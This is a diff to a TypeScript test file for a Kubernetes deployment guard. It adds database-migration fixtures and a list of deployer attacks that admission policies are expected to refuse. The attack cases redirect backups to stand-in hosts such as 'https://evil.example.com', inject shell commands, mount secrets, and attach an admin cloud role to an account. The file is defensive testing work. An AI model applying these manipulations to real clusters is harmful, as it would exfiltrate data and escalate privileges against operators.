@@ -10,12 +10,14 @@ import {
 import { watchdogJob } from "../../src/backends/rollout/watchdog.js"
 import type { Rollout } from "../../src/backends/rollout/rollout.js"
 import type { Manifest, Plain } from "../../src/clients/kubernetes/manifest.js"
-import { approvalsName, guardsNamespace, watchAccount } from "../../src/delivery/access.js"
+import { approvalsName, databaseAccount, guardsNamespace, watchAccount } from "../../src/delivery/access.js"
 import { approvalEntries } from "../../src/delivery/approvals.js"
 import { entryObject } from "../../src/delivery/audit.js"
 import { verdictObject } from "../../src/delivery/verdicts.js"
+import { migrationObjects } from "../../src/databases/job.js"
 import {
   backendSettings,
+  databaseSettings,
   type DeployConfiguration,
   environmentOf,
 } from "../../src/environments/configuration.js"
@@ -195,7 +197,18 @@ export function honest(configuration: DeployConfiguration, watchdog: string) {
       by,
       message: "",
     })
-  return { namespace, image, objects, deployment, job, baseline, route, rollout, stable, entry }
+  const [database] = databaseSettings(configuration, environment)
+  if (!database) throw new Error("production has no database")
+  const migration = (letter: string, mode: "migrate" | "plan" = "migrate") =>
+    migrationObjects(
+      database,
+      { id: "20261128-100000-abcd", mode, image: image(letter), allowBreaking: mode === "plan" },
+      { database_url: "placeholder" },
+    )
+  return {
+    ...{ namespace, image, objects, deployment, job, baseline, route, rollout, stable, entry },
+    ...{ database, migration },
+  }
 }
 
 /**
@@ -444,6 +457,7 @@ export function deployerAttacks(of: ReturnType<typeof honest>, deployer: string)
       refused: "program of this environment's watchdog",
     },
     { name: "a watchdog of an image that nobody approved", request: create(job("f")), refused: unapproved },
+    ...migrationAttacks(of),
     {
       name: "a Secret that gets the token of another account",
       request: create(
@@ -606,6 +620,173 @@ export function deployerAttacks(of: ReturnType<typeof honest>, deployer: string)
         }),
       ),
       refused: "forbidden",
+    },
+  ]
+}
+
+/** What a deployer could try with the account, the image or the Job of a migration. */
+function migrationAttacks(of: ReturnType<typeof honest>): Attack[] {
+  const { namespace, image, database, migration } = of
+  const account = databaseAccount(database.name)
+  const shape = `${account} runs the migrations of ${database.name} and nothing else`
+  type Container = Tree & { args?: string[]; command?: string[] }
+  const inJob = (
+    change: (parts: { spec: Tree; migrate: Container; copy: Container; pod: Tree }) => void,
+    letter = "a",
+  ) =>
+    create(
+      changed(migration(letter).job, ({ spec }) => {
+        const pod = spec?.template.spec as unknown as Tree & {
+          containers: [Container]
+          initContainers: [Container]
+        }
+        change({
+          spec: spec as unknown as Tree,
+          pod,
+          migrate: pod.containers[0],
+          copy: pod.initContainers[0],
+        })
+      }),
+    )
+  return [
+    {
+      name: "a migration by an image that nobody approved",
+      request: create(migration("f").job),
+      refused: "nobody has approved",
+    },
+    {
+      name: "a migration by an image that the deployer approved alone",
+      request: create(migration("b").job),
+      refused: "somebody else must",
+    },
+    {
+      name: "a migration by an image whose approval has expired",
+      request: create(migration("e").job),
+      refused: "expired",
+    },
+    {
+      name: "a migration that backs up to another bucket",
+      request: inJob(({ migrate }) => {
+        migrate.args = migrate.args?.map((word) => (word.startsWith("s3://") ? "s3://evil/x" : word)) ?? []
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration that backs up to another address",
+      request: inJob(({ migrate }) => {
+        migrate.env = [{ name: "BACKUP_S3_ENDPOINT", value: "https://evil.example.com" }]
+      }),
+      refused: shape,
+    },
+    {
+      name: "a ConfigMap that sends backups elsewhere",
+      request: create({
+        apiVersion: "v1",
+        kind: "ConfigMap",
+        metadata: { namespace, name: "recipes-migrate-evil" },
+        data: { AWS_ENDPOINT_URL_S3: "https://evil.example.com" },
+      } as Manifest),
+      refused: "send backups elsewhere",
+    },
+    {
+      name: "a migration that runs another command of the image",
+      request: inJob(({ migrate }) => {
+        migrate.args = ["serve"]
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration that runs a program",
+      request: inJob(({ migrate }) => {
+        migrate.command = ["sh", "-c", "evil"]
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration with a hook",
+      request: inJob(({ migrate }) => {
+        migrate.lifecycle = { postStart: { exec: { command: ["evil"] } } }
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration whose copy runs a program",
+      request: inJob(({ copy }) => {
+        copy.command = ["bash", "-ec", "evil"]
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration whose copy has another probe",
+      request: inJob(({ copy }) => {
+        copy.startupProbe = { exec: { command: ["evil"] } }
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration whose copy reads the secrets",
+      request: inJob(({ copy }) => {
+        copy.volumeMounts = [{ name: "secrets", mountPath: "/copy" }]
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration with another image as its copy",
+      request: inJob(({ copy }) => {
+        copy.image = "registry.local/evil:1"
+      }),
+      // Two policies refuse it, and the API server names one of them.
+      refused: `pitwall-${namespace}-`,
+    },
+    {
+      name: "a migration with a second sidecar",
+      request: inJob(({ pod, copy }) => {
+        pod.initContainers = [copy, { ...copy, name: "second", image: image("a") }]
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration without its copy",
+      request: inJob(({ pod }) => {
+        delete pod.initContainers
+      }),
+      refused: shape,
+    },
+    {
+      name: "a migration as the account of a service",
+      request: inJob(({ pod }) => {
+        pod.serviceAccountName = "api"
+      }),
+      // Two policies refuse it, and the API server names one of them.
+      refused: `pitwall-${namespace}-`,
+    },
+    {
+      name: "a revision with the image of a migration's copy",
+      request: create(
+        changed(of.deployment("a", 3), ({ spec }) => {
+          const [container] = spec?.template.spec?.containers ?? []
+          if (container) container.image = database.copy
+        }),
+      ),
+      refused: "pinned by its digest",
+    },
+    {
+      name: "a revision as the account of a database",
+      request: create(
+        changed(of.deployment("a", 3), ({ spec }) => {
+          const pod = spec?.template.spec
+          if (pod) pod.serviceAccountName = account
+        }),
+      ),
+      refused: "the only Jobs are watchdogs and migrations",
+    },
+    {
+      name: "a role of the cloud for a database's account",
+      request: patch(
+        { apiVersion: "v1", kind: "ServiceAccount", metadata: { namespace, name: account } },
+        { metadata: { annotations: { "eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin" } } },
+      ),
+      refused: "only the service accounts of services",
     },
   ]
 }
